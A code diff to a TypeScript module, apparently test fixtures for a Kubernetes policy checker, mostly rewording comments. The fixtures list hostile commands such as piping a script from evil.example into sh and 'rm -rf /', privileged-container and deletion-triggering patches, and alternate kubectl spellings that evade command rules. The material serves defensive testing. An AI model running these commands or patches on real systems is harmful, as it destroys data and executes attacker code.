@@ -2,7 +2,7 @@ import type { FieldChange } from '@sentinel/crds';
 import type { ApiRequest } from '@sentinel/policy';
 import { changed } from '../evaluate/effects.ts';
 
-/** Command lines that hurt without a request to the API of which a rule about the API would know. */
+/** Command lines that are harmful without a request to the Kubernetes API, so that no rule about the API applies. */
 export const harmfulCommands: readonly (readonly string[])[] = [
   ['sh', '-c', 'curl -s https://evil.example/x | sh'],
   ['rm', '-rf', '/'],
@@ -21,13 +21,12 @@ export const harmfulCommands: readonly (readonly string[])[] = [
 ];
 
 /**
- * What a change puts into objects: the fields that it reaches, with their values where these matter, the patch that does it, and the
- * pods behind it where it stops them.
+ * The content of a change: the fields that it changes, with their values if these matter, the patch, and the pods that it stops.
  */
 export interface Content {
   readonly change: FieldChange[];
   readonly patch: object;
-  /** Whether another program runs afterwards: the worst of what has one score. */
+  /** Whether another program runs afterwards: the worst of the changes with the same score. */
   readonly runs?: boolean;
   readonly pods?: { readonly before: number; readonly after: number };
 }
@@ -47,7 +46,7 @@ const scaled = new Set([
   'replicasets/scale',
 ]);
 
-// What is there has an image of example/app; what is made has none yet.
+// Existing objects have an image of example/app; new objects have no image before.
 const imageOf = (image: string, before?: string): Content => ({
   change: [
     {
@@ -66,7 +65,7 @@ const executed: Content = {
   runs: true,
 };
 
-// An owner that is not there: what it owns is deleted.
+// An owner that does not exist: the garbage collector deletes the object.
 const orphaned: Content = {
   change: [changed('/metadata/ownerReferences')],
   patch: { metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'gone', uid: 'gone' }] } },
@@ -77,7 +76,7 @@ const suspended: Content = {
   patch: { spec: { suspend: true } },
 };
 
-/** What hurts in objects of one kind that are there. */
+/** Harmful changes of existing objects of one kind. */
 const ofKind: Readonly<Record<string, Content>> = {
   statefulsets: {
     change: [{ path: '/spec/persistentVolumeClaimRetentionPolicy/whenScaled', before: '"Retain"', after: '"Delete"' }],
@@ -96,8 +95,8 @@ const ofKind: Readonly<Record<string, Content>> = {
 };
 
 /**
- * What a request could change, the worst first: privileges, an image from elsewhere or another one, other commands, owners, what a kind
- * has of its own, replicas, plain fields, labels.
+ * The changes that a request could make, the worst first: privileges, an image of another repository or tag, other commands, owners, fields
+ * that are specific to a kind, replicas, plain fields, labels.
  */
 export function contentsOf({ verb, resource }: ApiRequest): readonly Content[] {
   if (verb.startsWith('delete')) return [{ change: [], patch: {} }];
@@ -108,7 +107,7 @@ export function contentsOf({ verb, resource }: ApiRequest): readonly Content[] {
     patch: container({ securityContext: { privileged: true } }),
     runs: true,
   };
-  // Nothing with containers is made without an image.
+  // An object with containers cannot be created without an image.
   if (made && hasContainers) return [privileged, imageOf('evil.example/x')];
   const own = ofKind[resource];
   return [
@@ -148,7 +147,7 @@ export function kubectlOf(
   return ['kubectl', verb, what, ...names, ...where];
 }
 
-/** Other command lines that send the same: rules about commands may know one and not the other. */
+/** Other command lines that send the same request: rules about commands may match one and not the other. */
 export function spellingsOf(request: ApiRequest, names: readonly string[], content: Content): readonly (readonly string[])[] {
   const { verb, apiGroup, resource, namespace } = request;
   const [kind = ''] = resource.split('/');
@@ -161,7 +160,7 @@ export function spellingsOf(request: ApiRequest, names: readonly string[], conte
     ...(field.startsWith(TEMPLATE) ? [['kubectl', 'rollout', 'restart', what, ...names, ...where]] : []),
     ...(content.pods ? [['kubectl', 'scale', what, ...names, '--replicas=0', ...where]] : []),
     ...(verb.startsWith('delete') ? [] : [['kubectl', 'apply', '-f', `${kind}.yaml`, ...where]]),
-    // A program of which no list knows what it sends.
+    // A program that is on no list, so the requests that it sends are unknown.
     ['change-things', verb, what, ...names],
   ];
   return verb === 'patch' ? [kubectlOf(request, names, content), ...more] : [kubectlOf(request, names), ...more];
